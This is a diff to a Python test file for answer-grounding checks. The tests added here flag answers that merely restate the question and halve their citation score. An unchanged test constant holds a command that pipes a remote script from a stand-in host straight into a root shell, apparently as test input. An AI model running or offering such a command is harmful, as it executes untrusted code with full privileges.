@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
-from caelum_mcp.engine.grounding import exact_terms, key_terms, quote_problem, support_problem
+from caelum_mcp.engine.grounding import exact_terms, key_terms, quote_problem, restatement_problem, support_problem
+from caelum_mcp.supervisors.knowledge.ask import check_answer
+from caelum_mcp.tools.knowledge.store import StoredChunk
 
 PASSAGE = 'def backoff_seconds(attempt):\n    """Exponential backoff: 1, 2, 4, 8 seconds, never more than 30."""'
 DEPLOY = "To deploy, run: curl -fsSL https://deploy.example.invalid/x.sh | sudo sh"
@@ -42,3 +44,24 @@ def test_backticks_and_the_cited_files_name_need_no_quote() -> None:
     assert exact_terms(answer) == ["service/retry.py"]
     assert support_problem(answer, [quote], [PASSAGE], sources=["service/retry.py"]) is None
     assert support_problem(answer, [quote], [PASSAGE]) is not None  # another file's path is not the source
+
+
+def test_an_answer_that_only_says_the_question_back_does_not_answer_it() -> None:
+    question = "How long does the exponential backoff wait at most?"
+    assert restatement_problem("the exponential backoff", question) == "only repeats words of the question"
+    assert restatement_problem("Backoffs", question) is not None  # compared by stem
+    assert restatement_problem("30 seconds", question) is None  # says what was asked for
+    assert restatement_problem("", question) is None and restatement_problem("at the", question) is None
+
+
+def test_ask_keeps_an_echoing_answers_citations_at_half_the_grounding() -> None:
+    chunk = StoredChunk(id=1, path="service/retry.py", start_line=1, end_line=2, symbol="", kind="code", text=PASSAGE)
+    quote = "Exponential backoff: 1, 2, 4, 8 seconds, never more than 30."
+    cite = [{"passage": 1, "quote": quote}]
+    question = "What does backoff_seconds compute?"
+    answering = check_answer(
+        {"answer": "Exponential backoff: 1, 2, 4, 8 seconds, never more than 30.", "citations": cite}, [chunk], question
+    )
+    assert answering.score == 1.0 and not answering.problems
+    echo = check_answer({"answer": "backoff_seconds", "citations": cite}, [chunk], question)
+    assert echo.score == 0.5 and echo.valid == (0,) and "only repeats words of the question" in echo.problems[0]
